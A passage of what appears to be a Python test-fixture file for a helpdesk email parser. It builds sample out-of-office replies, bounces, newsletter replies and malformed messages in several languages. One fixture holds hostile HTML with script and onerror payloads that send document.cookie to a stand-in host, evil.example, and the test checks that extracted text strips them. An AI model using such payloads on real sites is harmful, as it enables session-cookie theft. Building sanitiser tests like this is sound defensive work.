Subject: Out of Office: Re: Replacement fridge delivery [#4188]
Message-ID: <ooo-20261111113008-6671@example.com>
In-Reply-To: <case-4188.3@desk.example>
References: <case-4188.3@desk.example>
X-Autorespond: Out of Office
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Thank you for your email. I am out of the office until Monday 16 November
with limited access to email. For urgent matters please call 0113 496 0000.

Daniel
""",
    message_id="<ooo-20261111113008-6671@example.com>",
    in_reply_to="<case-4188.3@desk.example>",
    references=["<case-4188.3@desk.example>"],
    from_address="d.okafor@example.com",
    from_name="Daniel Okafor",
    to=["support@desk.example"],
    subject="Out of Office: Re: Replacement fridge delivery [#4188]",
    case_reference=4188,
    text_contains=["I am out of the office until Monday 16 November"],
    auto_reply=True,
    language="en",
    note="English out-of-office marked only by X-Autorespond (cPanel/Exim style), with our case in In-Reply-To.",
)

add(
    "precedence-bulk-supplier-en",
    f"""Return-Path: <bounce-mc.us5_4412.889@mailer.partsdirect.example>
Delivered-To: support@desk.example
{received("support@desk.example", "Wed, 11 Nov 2026 12:00:31 +0000")}Date: Wed, 11 Nov 2026 12:00:30 +0000
From: PartsDirect <news@partsdirect.example>
Reply-To: PartsDirect <news@partsdirect.example>
To: <support@desk.example>
Subject: Winter spare-parts price list is here
Message-ID: <20261111120030.88c1f0a9b2@mailer.partsdirect.example>
Precedence: bulk
List-Unsubscribe: <https://partsdirect.example/unsubscribe?u=4412&id=889>, <mailto:unsubscribe-4412@partsdirect.example>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
List-Id: PartsDirect customers <customers.partsdirect.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Our winter spare-parts price list is now available. Log in to download it.

To stop receiving these emails, unsubscribe here:
https://partsdirect.example/unsubscribe?u=4412&id=889
""",
    message_id="<20261111120030.88c1f0a9b2@mailer.partsdirect.example>",
    from_address="news@partsdirect.example",
    from_name="PartsDirect",
    to=["support@desk.example"],
    subject="Winter spare-parts price list is here",
    text_contains=["winter spare-parts price list"],
    auto_reply=True,
    language="en",
    note="A supplier's mailing to our address with Precedence: bulk and List-Unsubscribe: automatic by the header rule, never answered.",
)

ROSSI_37_TEXT = """Grazie per averci scritto! Le risponderemo entro 48 ore lavorative.
Negozio Rossi Elettrodomestici - Via Roma 3, Torino
"""
add(
    "precedence-auto-reply-it",
    f"""Return-Path: <info@negozio-rossi.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Wed, 11 Nov 2026 12:40:03 +0100")}Date: Wed, 11 Nov 2026 12:40:02 +0100
From: Negozio Rossi Elettrodomestici <info@negozio-rossi.example>
To: assistenza@desk.example
Subject: =?UTF-8?Q?Abbiamo_ricevuto_il_tuo_messaggio?=
Message-ID: <ack-20261111124002.55@negozio-rossi.example>
In-Reply-To: <case-3412.1@desk.example>
Precedence: auto_reply
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(ROSSI_37_TEXT)}""",
    message_id="<ack-20261111124002.55@negozio-rossi.example>",
    in_reply_to="<case-3412.1@desk.example>",
    from_address="info@negozio-rossi.example",
    from_name="Negozio Rossi Elettrodomestici",
    to=["assistenza@desk.example"],
    subject="Abbiamo ricevuto il tuo messaggio",
    text_contains=["Le risponderemo entro 48 ore lavorative"],
    auto_reply=True,
    language="it",
    note="A retailer's helpdesk acknowledgement marked only by Precedence: auto_reply; answering it would start a loop between two desks.",
)

OUTLOOK_38_TEXT = """Hi,

I've had the Novalux dehumidifier (DH-30) for two weeks and it's making a loud rattling noise at night. I've attached nothing, but I can send a video if that helps.

Is this covered by the warranty?

Kind regards,
Hannah Lewis

Sent from Outlook for iOS
"""
add(
    "outlook-ios-auto-response-suppress-not-auto",
    f"""Received: from AS8PR01MB9012.eurprd01.prod.outlook.example ([fe80::9a8b:7c6d:5e4f:3a2b])
 by AS8PR01MB9012.eurprd01.prod.outlook.example with mapi id 15.20.8158.014;
 Wed, 11 Nov 2026 19:22:10 +0000
From: Hannah Lewis <hannah.lewis@outlook.example>
To: "support@desk.example" <support@desk.example>
Subject: Dehumidifier DH-30 rattling
Thread-Topic: Dehumidifier DH-30 rattling
Thread-Index: AQHbVL6+Zq0x1R2y3S4t5U6v7W8x9Y==
Date: Wed, 11 Nov 2026 19:22:09 +0000
Message-ID: <AS8PR01MB9012E1D2C3B4A5968778695A4B3C@AS8PR01MB9012.eurprd01.prod.outlook.example>
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
X-Auto-Response-Suppress: DR, RN, NRN, OOF, AutoReply
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(OUTLOOK_38_TEXT)}""",
    message_id="<AS8PR01MB9012E1D2C3B4A5968778695A4B3C@AS8PR01MB9012.eurprd01.prod.outlook.example>",
    from_address="hannah.lewis@outlook.example",
    from_name="Hannah Lewis",
    to=["support@desk.example"],
    subject="Dehumidifier DH-30 rattling",
    text_contains=["loud rattling noise at night", "Sent from Outlook for iOS"],
    language="en",
    note="A customer's ordinary mail from Outlook for iOS carrying X-Auto-Response-Suppress: it asks others not to auto-reply and is NOT itself an auto-reply.",
)

OOO_39_TEXT = """Bonjour,

Je suis actuellement en congé et je reprendrai le travail le 23 novembre.
Votre message ne sera pas transféré.

Nathalie Perrin
"""
add(
    "ooo-fr-subject-only-no-headers",
    f"""Return-Path: <nathalie.perrin@example.fr>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Thu, 12 Nov 2026 08:00:05 +0100")}Date: Thu, 12 Nov 2026 08:00:04 +0100
From: Nathalie Perrin <nathalie.perrin@example.fr>
To: sav@desk.example
Subject: =?UTF-8?Q?R=C3=A9ponse_automatique_:_Re:_Lave-linge_WM-8_[#4410]?=
Message-ID: <4f3e2d1c0b9a.ooo@mail.example.fr>
In-Reply-To: <case-4410.2@desk.example>
References: <case-4410.1@desk.example> <case-4410.2@desk.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Mailer: Roundcube Webmail/1.6.9

{qp(OOO_39_TEXT)}""",
    message_id="<4f3e2d1c0b9a.ooo@mail.example.fr>",
    in_reply_to="<case-4410.2@desk.example>",
    references=["<case-4410.1@desk.example>", "<case-4410.2@desk.example>"],
    from_address="nathalie.perrin@example.fr",
    from_name="Nathalie Perrin",
    to=["sav@desk.example"],
    subject="Réponse automatique : Re: Lave-linge WM-8 [#4410]",
    case_reference=4410,
    text_contains=["je reprendrai le travail le 23 novembre"],
    auto_reply=False,
    language="fr",
    note="An out-of-office with none of the automatic headers, only a 'Réponse automatique :' subject: a header-based detector says false (a human sees an auto-reply; a subject rule would be needed).",
)


# --- 40-44: bounces and our own mail coming back ----------------------------------------------

OURS_40 = """Return-Path: <sav@desk.example>
Received: from app1.desk.example (app1.desk.example [192.0.2.10])
\tby mail.desk.example (Postfix) with ESMTPSA id 7B2C11A0F3
\tfor <m.durand@orange.example>; Thu, 12 Nov 2026 09:15:01 +0100 (CET)
Message-ID: <case-1234.6@desk.example>
In-Reply-To: <CAJx7pQ0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3a@mail.gmail.example>
References: <case-1234.1@desk.example> <case-1234.5@desk.example>
From: Service client Novalux <sav@desk.example>
To: m.durand@orange.example
Subject: =?utf-8?q?Re=3A_T=C3=A9l=C3=A9viseur_qui_s=27=C3=A9teint_tout_seul_=5B=231234=5D?=
Date: Thu, 12 Nov 2026 09:15:00 +0100
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

Bonjour, votre téléviseur peut être déposé au point relais mercredi."""
DSN_40 = """Reporting-MTA: dns; mail.desk.example
X-Postfix-Queue-ID: 7B2C11A0F3
X-Postfix-Sender: rfc822; sav@desk.example
Arrival-Date: Thu, 12 Nov 2026 09:15:01 +0100 (CET)

Final-Recipient: rfc822; m.durand@orange.example
Original-Recipient: rfc822;m.durand@orange.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; smtp-in.orange.example
Diagnostic-Code: smtp; 550 5.1.1 <m.durand@orange.example>: Recipient address
    rejected: User unknown"""
add(
    "postfix-bounce-dsn",
    f"""Return-Path: <>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Thu, 12 Nov 2026 09:15:04 +0100")}Date: Thu, 12 Nov 2026 09:15:03 +0100 (CET)
From: MAILER-DAEMON@mail.desk.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: sav@desk.example
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="7B2C11A0F3.1794471303/mail.desk.example"
Content-Transfer-Encoding: 8bit
Message-Id: <20261112081503.9E44A1A0F5@mail.desk.example>

This is a MIME-encapsulated message.

--7B2C11A0F3.1794471303/mail.desk.example
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mail.desk.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<m.durand@orange.example>: host smtp-in.orange.example[203.0.113.200] said:
    550 5.1.1 <m.durand@orange.example>: Recipient address rejected: User
    unknown (in reply to RCPT TO command)

--7B2C11A0F3.1794471303/mail.desk.example
Content-Description: Delivery report
Content-Type: message/delivery-status

{DSN_40}

--7B2C11A0F3.1794471303/mail.desk.example
Content-Description: Undelivered Message
Content-Type: message/rfc822
Content-Transfer-Encoding: 8bit

{OURS_40}

--7B2C11A0F3.1794471303/mail.desk.example--
""",
    crlf=False,
    message_id="<20261112081503.9E44A1A0F5@mail.desk.example>",
    from_address="mailer-daemon@mail.desk.example",
    from_name="Mail Delivery System",
    to=["sav@desk.example"],
    subject="Undelivered Mail Returned to Sender",
    text_contains=["your message could not", "Recipient address rejected: User"],
    attachments=[
        att(None, "message/delivery-status", textsize(DSN_40 + "\n", crlf=False)),
        att(None, "message/rfc822", textsize(OURS_40 + "\n", crlf=False)),
    ],
    auto_reply=True,
    bounce=True,
    bounced_message_id="<case-1234.6@desk.example>",
    language="fr",
    note="Postfix DSN (stored with LF): multipart/report with the full returned message; From is a comment-style 'MAILER-DAEMON@host (Mail Delivery System)'; Auto-Submitted makes it automatic too.",
)

HEADERS_41 = """Received: from app1.desk.example (192.0.2.10) by mail.desk.example
Message-ID: <case-2001.4@desk.example>
References: <case-2001.1@desk.example> <case-2001.3@desk.example>
From: Service client Novalux <sav@desk.example>
To: j.roussel@roussel-btp.example
Subject: Re: Aspirateur V12 : batterie =?utf-8?q?d=C3=A9fectueuse?= [#2001]
Date: Thu, 12 Nov 2026 10:02:00 +0100
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
"""
EXCH_41_TEXT = """Remise impossible à ces destinataires ou groupes :

j.roussel@roussel-btp.example
La boîte aux lettres du destinataire est pleine et ne peut pas accepter de messages pour l’instant. Réessayez d’envoyer le message ultérieurement ou contactez le destinataire directement.

Informations de diagnostic pour les administrateurs :

Serveur de génération : VI1PR04MB1122.eurprd04.prod.outlook.example

j.roussel@roussel-btp.example
Remote Server returned '554 5.2.2 mailbox full; STOREDRV.Deliver.Exception:QuotaExceededException.MapiExceptionShutoffQuotaExceeded'
"""
EXCH_41_HTML = '<html><head></head><body><p><b><font color="#000066" size="3" face="Arial">Remise impossible à ces destinataires ou groupes :</font></b></p><p><a href="mailto:j.roussel@roussel-btp.example">j.roussel@roussel-btp.example</a><br>La boîte aux lettres du destinataire est pleine et ne peut pas accepter de messages pour l’instant.</p></body></html>'
DSN_41 = """Reporting-MTA: dns;VI1PR04MB1122.eurprd04.prod.outlook.example
Received-From-MTA: dns;mail.desk.example
Arrival-Date: Thu, 12 Nov 2026 09:02:03 +0000

Final-Recipient: rfc822;j.roussel@roussel-btp.example
Action: failed
Status: 5.2.2
Diagnostic-Code: smtp;554 5.2.2 mailbox full; STOREDRV.Deliver.Exception:QuotaExceededException.MapiExceptionShutoffQuotaExceeded
"""
_B41 = "_000_b7c8d9e0f1a24b3c8d4e5f6a7b8c9d0eVI1PR04MB1122eurprd04pro_"
_A41 = "_002_b7c8d9e0f1a24b3c8d4e5f6a7b8c9d0eVI1PR04MB1122eurprd04pro_"
add(
    "exchange-ndr-fr",
    f"""Received: from VI1PR04MB1122.eurprd04.prod.outlook.example
 by mx1.desk.example (Postfix) with ESMTPS id 4RA0n81kP3z9x
 for <sav@desk.example>; Thu, 12 Nov 2026 10:02:06 +0100 (CET)
From: postmaster@roussel-btp.example
To: sav@desk.example
Date: Thu, 12 Nov 2026 09:02:05 +0000
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="{_B41}"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: fr-FR
Message-ID: <b7c8d9e0-f1a2-4b3c-8d4e-5f6a7b8c9d0e@VI1PR04MB1122.eurprd04.prod.outlook.example>
In-Reply-To: <case-2001.4@desk.example>
References: <case-2001.1@desk.example> <case-2001.3@desk.example> <case-2001.4@desk.example>
Thread-Topic: =?utf-8?q?Aspirateur_V12_:_batterie_d=C3=A9fectueuse_[#2001]?=
Subject: =?utf-8?q?Non_remis=C2=A0=3A_Re=3A_Aspirateur_V12_=3A_batterie_d=C3=A9fectueuse_=5B=232001=5D?=
MIME-Version: 1.0

--{_B41}
Content-Type: multipart/alternative; differences=Content-Type;
\tboundary="{_A41}"

--{_A41}
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(EXCH_41_TEXT.encode())}

--{_A41}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(EXCH_41_HTML.encode())}

--{_A41}--

--{_B41}
Content-Type: message/delivery-status

{DSN_41}
--{_B41}
Content-Type: text/rfc822-headers

{HEADERS_41}
--{_B41}--
""",
    message_id="<b7c8d9e0-f1a2-4b3c-8d4e-5f6a7b8c9d0e@VI1PR04MB1122.eurprd04.prod.outlook.example>",
    in_reply_to="<case-2001.4@desk.example>",
    references=[
        "<case-2001.1@desk.example>",
        "<case-2001.3@desk.example>",
        "<case-2001.4@desk.example>",
    ],
    from_address="postmaster@roussel-btp.example",
    to=["sav@desk.example"],
    subject="Non remis\u00a0: Re: Aspirateur V12 : batterie défectueuse [#2001]",
    case_reference=2001,
    text_contains=[
        "Remise impossible à ces destinataires ou groupes",
        "La boîte aux lettres du destinataire est pleine",
    ],
    attachments=[
        att(None, "message/delivery-status", textsize(DSN_41)),
        att(None, "text/rfc822-headers", textsize(HEADERS_41)),
    ],
    auto_reply=False,
    bounce=True,
    bounced_message_id="<case-2001.4@desk.example>",
    language="fr",
    note="Exchange Online NDR in French: multipart/report > (alternative, delivery-status, text/rfc822-headers); no Auto-Submitted header, so only the report type says bounce; it names our case in its subject and References.",
)

GMAIL_DSN_42_TEXT = """
** Address not found **

Your message wasn't delivered to l.bianchi@example.it because the domain example.it couldn't be found. Check for typos or unnecessary spaces and try again.

Learn more here: https://support.google.example/mail/answer/6596


The response was:

DNS Error: DNS type 'mx' lookup of example.it responded with code NXDOMAIN Domain name not found: example.it
"""
DSN_42 = """Reporting-MTA: dns; googlemail.example
Received-From-MTA: dns; lucia.colombo@gmail.example
Arrival-Date: Thu, 12 Nov 2026 03:47:11 -0800 (PST)
X-Original-Message-ID: <CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>

Final-Recipient: rfc822; l.bianchi@example.it
Action: failed
Status: 5.1.2
Diagnostic-Code: smtp; DNS Error: DNS type 'mx' lookup of example.it responded with code NXDOMAIN Domain name not found: example.it
Last-Attempt-Date: Thu, 12 Nov 2026 03:47:12 -0800 (PST)
"""
ORIG_42 = """MIME-Version: 1.0
References: <case-3550.2@desk.example>
In-Reply-To: <case-3550.2@desk.example>
From: Lucia Colombo <lucia.colombo@gmail.example>
Date: Thu, 12 Nov 2026 12:47:00 +0100
Message-ID: <CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>
Subject: Re: Sostituzione forno [#3550]
To: assistenza@desk.example
Cc: l.bianchi@example.it
Content-Type: text/plain; charset="UTF-8"

Va bene, aspetto il corriere giovedì. Metto in copia mio marito."""
add(
    "gmail-dsn-failure",
    f"""Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Thu, 12 Nov 2026 12:47:15 +0100")}Return-Path: <>
From: Mail Delivery Subsystem <mailer-daemon@googlemail.example>
To: lucia.colombo@gmail.example
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
References: <CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>
In-Reply-To: <CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>
X-Failed-Recipients: l.bianchi@example.it
Message-ID: <6734a1b2.050a0220.3c4d5e.f00dAGcFFb9@mx.google.example>
Date: Thu, 12 Nov 2026 03:47:12 -0800 (PST)
Content-Type: multipart/report; boundary="000000000000e1f2a3061f7b4c5d"; report-type=delivery-status

--000000000000e1f2a3061f7b4c5d
Content-Type: text/plain; charset="UTF-8"

{GMAIL_DSN_42_TEXT}
--000000000000e1f2a3061f7b4c5d
Content-Type: message/delivery-status

{DSN_42}
--000000000000e1f2a3061f7b4c5d
Content-Type: message/rfc822

{ORIG_42}
--000000000000e1f2a3061f7b4c5d--
""",
    message_id="<6734a1b2.050a0220.3c4d5e.f00dAGcFFb9@mx.google.example>",
    in_reply_to="<CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>",
    references=["<CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>"],
    from_address="mailer-daemon@googlemail.example",
    from_name="Mail Delivery Subsystem",
    to=["lucia.colombo@gmail.example"],
    subject="Delivery Status Notification (Failure)",
    text_contains=["Address not found", "wasn't delivered to l.bianchi@example.it"],
    attachments=[
        att(None, "message/delivery-status", textsize(DSN_42)),
        att(None, "message/rfc822", textsize(ORIG_42)),
    ],
    auto_reply=True,
    bounce=True,
    bounced_message_id="<CAKm2VnT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U9v@mail.gmail.example>",
    language="it",
    note="Gmail DSN that reached us because the customer's reply went to us and to a dead Cc: the bounced message is the customer's own, not ours; To is the customer.",
)

add(
    "qmail-bounce-plain",
    f"""Return-Path: <>
Delivered-To: support@desk.example
{received("support@desk.example", "Thu, 12 Nov 2026 13:05:22 +0000")}Date: 12 Nov 2026 13:05:21 -0000
From: MAILER-DAEMON@mx.oldhost.example
To: support@desk.example
Subject: failure notice

Hi. This is the qmail-send program at mx.oldhost.example.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<g.harris@oldhost.example>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <support@desk.example>
Received: (qmail 22817 invoked from network); 12 Nov 2026 13:05:21 -0000
Message-ID: <case-4502.1@desk.example>
From: Novalux Support <support@desk.example>
To: g.harris@oldhost.example
Subject: We have received your request [#4502]
Date: Thu, 12 Nov 2026 13:05:18 +0000

Dear customer, we have received your request and will reply within one working day.
""",
    crlf=False,
    message_id=None,
    from_address="mailer-daemon@mx.oldhost.example",
    to=["support@desk.example"],
    subject="failure notice",
    text_contains=[
        "wasn't able to deliver your message",
        "--- Below this line is a copy of the message.",
    ],
    bounce=True,
    bounced_message_id="<case-4502.1@desk.example>",
    language="en",
    note="Old-style qmail bounce (LF, no MIME, no Message-ID, no Auto-Submitted): plain text from MAILER-DAEMON with the returned message pasted below; its Message-ID line gives the bounced id.",
)

add(
    "own-address-loop",
    f"""Return-Path: <support@desk.example>
Delivered-To: support@desk.example
{received("support@desk.example", "Thu, 12 Nov 2026 14:00:03 +0000")}Received: from forwarder.example.net (forwarder.example.net [198.51.100.9])
\tby mx1.desk.example (Postfix) with ESMTP id 4RA5c02vQ8z1
\tfor <support@desk.example>; Thu, 12 Nov 2026 14:00:03 +0000 (UTC)
Message-ID: <case-4511.1@desk.example>
From: Novalux Support <support@desk.example>
To: mark.evans@example.net
Subject: We have received your request [#4511]
Date: Thu, 12 Nov 2026 14:00:01 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit
X-Loyaldesk-Case: 4511

Dear Mark,

We have received your request about your Novalux projector and will reply
within one working day. Your case number is 4511.

Novalux Support
""",
    message_id="<case-4511.1@desk.example>",
    from_address="support@desk.example",
    from_name="Novalux Support",
    to=["mark.evans@example.net"],
    subject="We have received your request [#4511]",
    case_reference=4511,
    text_contains=["We have received your request about your Novalux projector"],
    language="en",
    note="Our own acknowledgement looping back (the customer's address forwards to us): From is support@desk.example and the Message-ID is one of ours; no automatic header, so only a from-ourselves rule stops the loop.",
)


# --- 45-47: several people answering one newsletter -------------------------------------------

NEWSLETTER = "<newsletter-2026-11@desk.example>"
NEWSLETTER_45_TEXT = """Bonjour,

Est-ce que la remise de 20 % s'applique-t-elle aussi aux accessoires (filtres,
brosses) ou seulement aux aspirateurs ?

Merci,
Claire

> Le 12/11/2026 à 18:00, Novalux a écrit :
>
> Nouveautés de novembre : -20 % sur tous les aspirateurs jusqu'au 30 novembre.
"""
add(
    "newsletter-reply-fr",
    f"""Return-Path: <claire.vidal@orange.example>
Delivered-To: news@desk.example
{received("news@desk.example", "Fri, 13 Nov 2026 09:10:31 +0100")}Date: Fri, 13 Nov 2026 09:10:28 +0100 (CET)
From: Claire Vidal <claire.vidal@orange.example>
To: Novalux <news@desk.example>
Message-ID: <1811459201.20931.1794557428776.JavaMail.open-xchange@opme11oxm21aub.bagnolet.orange.example>
In-Reply-To: {NEWSLETTER}
References: {NEWSLETTER}
Subject: =?UTF-8?Q?Re:_Nouveaut=C3=A9s_de_novembre_:_-20_%_sur_les_aspirateurs?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Mailer: Open-Xchange Mailer v7.10.6-Rev62

{qp(NEWSLETTER_45_TEXT)}""",
    message_id="<1811459201.20931.1794557428776.JavaMail.open-xchange@opme11oxm21aub.bagnolet.orange.example>",
    in_reply_to=NEWSLETTER,
    references=[NEWSLETTER],
    from_address="claire.vidal@orange.example",
    from_name="Claire Vidal",
    to=["news@desk.example"],
    subject="Re: Nouveautés de novembre : -20 % sur les aspirateurs",
    text_contains=[
        "la remise de 20 % s'applique-t-elle",
        "Le 12/11/2026 à 18:00, Novalux a écrit :",
    ],
    language="fr",
    note="First of three replies to one broadcast: In-Reply-To is our newsletter's id, which belongs to no case; each reply is its own new request.",
)
add(
    "newsletter-reply-it",
    f"""Return-Path: <franco.deluca@yahoo.example>
Delivered-To: news@desk.example
{received("news@desk.example", "Fri, 13 Nov 2026 10:02:11 +0100")}Date: Fri, 13 Nov 2026 09:02:08 +0000 (UTC)
From: Franco De Luca <franco.deluca@yahoo.example>
To: Novalux <news@desk.example>
Message-ID: <998877665.1122334.1794560528104@mail.yahoo.example>
In-Reply-To: {NEWSLETTER}
References: {NEWSLETTER}
Subject: R: =?UTF-8?Q?Novit=C3=A0_di_novembre?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit
X-Mailer: WebService/1.1.22876 YMailNorrin

Per favore cancellatemi dalla vostra lista, non voglio più ricevere queste email.

Franco

    Il giovedì 12 novembre 2026 alle ore 18:00:00 CET, Novalux <news@desk.example> ha scritto:

 Novità di novembre: -20% sugli aspiratori fino al 30 novembre.
""",
    message_id="<998877665.1122334.1794560528104@mail.yahoo.example>",
    in_reply_to=NEWSLETTER,
    references=[NEWSLETTER],
    from_address="franco.deluca@yahoo.example",
    from_name="Franco De Luca",
    to=["news@desk.example"],
    subject="R: Novità di novembre",
    text_contains=["non voglio più ricevere queste email", "ha scritto:"],
    language="it",
    note="Second reply to the same newsletter (Yahoo, Italian): an unsubscribe request in plain words, raw UTF-8 8bit body.",
)
add(
    "newsletter-reply-all-en",
    f"""Return-Path: <tom.wright@example.co.uk>
Delivered-To: news@desk.example
{received("news@desk.example", "Fri, 13 Nov 2026 09:30:55 +0000")}From: Tom Wright <tom.wright@example.co.uk>
To: Novalux <news@desk.example>
CC: Claire Vidal <claire.vidal@orange.example>, Franco De Luca
 <franco.deluca@yahoo.example>, Undisclosed recipients:;
Subject: RE: November news: 20% off vacuum cleaners
Date: Fri, 13 Nov 2026 09:30:52 +0000
Message-ID: <LO2P265MB4455A1B2C3D4E5F6A7B8C9D0E1F2@LO2P265MB4455.GBRP265.PROD.OUTLOOK.EXAMPLE>
References: {NEWSLETTER}
In-Reply-To: {NEWSLETTER}
Accept-Language: en-GB
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Does the discount apply to the V12 bought last week? Also, your newsletter =
shows every subscriber's address in Cc, which I don't think you meant to do.

Tom

From: Novalux <news@desk.example>
Sent: 12 November 2026 17:00
To: undisclosed-recipients
Subject: November news: 20% off vacuum cleaners
""",
    message_id="<LO2P265MB4455A1B2C3D4E5F6A7B8C9D0E1F2@LO2P265MB4455.GBRP265.PROD.OUTLOOK.EXAMPLE>",
    in_reply_to=NEWSLETTER,
    references=[NEWSLETTER],
    from_address="tom.wright@example.co.uk",
    from_name="Tom Wright",
    to=["news@desk.example"],
    cc=["claire.vidal@orange.example", "franco.deluca@yahoo.example"],
    subject="RE: November news: 20% off vacuum cleaners",
    text_contains=[
        "your newsletter shows every subscriber's address in Cc",
        "Sent: 12 November 2026 17:00",
    ],
    language="en",
    note="Third reply, a reply-all from Outlook: other recipients in a folded Cc with an empty group 'Undisclosed recipients:;' (no address), 'From: / Sent:' block.",
)


# --- 48-57: hostile HTML, broken headers and MIME, sizes -----------------------------------

HOSTILE_48_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Réclamation</title>
<style>body { color: #222; font-family: Georgia; } .hidden { display:none }</style>
<script type="text/javascript">window.location='https://evil.example/steal?c='+document.cookie;</script>
</head>
<body>
<p>Bonjour,</p>
<p>Ma friteuse sans huile AF-5 a fondu près de la résistance. Voici les photos :
<a href="javascript:alert('pwned')">voir les photos</a></p>
<img src="x" onerror="fetch('https://evil.example/x?'+document.cookie)">
<iframe src="https://evil.example/frame" width="0" height="0" style="border:0"></iframe>
<p>Je demande le remboursement intégral (79,90 €).</p>
<p>Luc Fontaine</p>
<img src="https://track.mailer.example/open.gif?u=88213&amp;m=5521" width="1" height="1" alt="" style="display:block;width:1px;height:1px">
<script>alert(document.cookie)</script>
</body></html>
"""
add(
    "html-only-scripts-and-tracking-fr",
    f"""Return-Path: <luc.fontaine@example.fr>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Fri, 13 Nov 2026 15:20:11 +0100")}Date: Fri, 13 Nov 2026 15:20:09 +0100
From: Luc Fontaine <luc.fontaine@example.fr>
To: sav@desk.example
Subject: =?utf-8?Q?Friteuse_AF-5_fondue_=E2=80=93_remboursement?=
Message-ID: <20261113152009.3c2b1a@mailer.example.fr>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)

{qp(HOSTILE_48_HTML)}""",
    message_id="<20261113152009.3c2b1a@mailer.example.fr>",
    from_address="luc.fontaine@example.fr",
    from_name="Luc Fontaine",
    to=["sav@desk.example"],
    subject="Friteuse AF-5 fondue – remboursement",
    text_contains=["a fondu près de la résistance", "le remboursement intégral (79,90 €)"],
    text_excludes=[
        "<script",
        "alert(",
        "document.cookie",
        "onerror",
        "javascript:",
        "<iframe",
        "<img",
        "font-family",
        "<p>",
    ],
    language="fr",
    note="HTML-only mail with <script> (in head and body), onerror=, a javascript: link, <style>, an <iframe> and a 1x1 tracking pixel: the text keeps the words and none of the code.",
)

MALFORMED_49_TEXT = """Buongiorno,
il televisore si spegne e si riaccende da solo. Numero di serie QN55-IT-88120.
Grazie
"""
add(
    "malformed-headers-no-date-duplicate-subject",
    [
        f"""Return-Path: <niccolo.ferri@example.it>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Fri, 13 Nov 2026 16:00:41 +0100")}""".encode(),
        "From: Niccolò Ferri <niccolo.ferri@example.it>\n".encode("latin-1"),
        "Subject: Televisore che si spegne da solo – è urgente\n".encode(),
        b"""To: assistenza@desk.example
Subject: second subject added by a broken gateway
Message-ID: <no-date-49.20261113@gw.example.it>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
This line of the header block has no colon

""",
        MALFORMED_49_TEXT.encode(),
    ],
    message_id="<no-date-49.20261113@gw.example.it>",
    from_address="niccolo.ferri@example.it",
    from_name="Niccolò Ferri",
    to=["assistenza@desk.example"],
    subject="Televisore che si spegne da solo – è urgente",
    text_contains=["il televisore si spegne e si riaccende da solo", "QN55-IT-88120"],
    language="it",
    note="Broken gateway: no Date, two Subject headers (the first counts), raw UTF-8 in Subject and raw ISO-8859-1 in From (8-bit bytes in headers), and a header line without a colon before the blank line (the stdlib starts the body there).",
)

LONG_50 = "; ".join(f"seg{i:03d}=" + "x" * 20 for i in range(45))
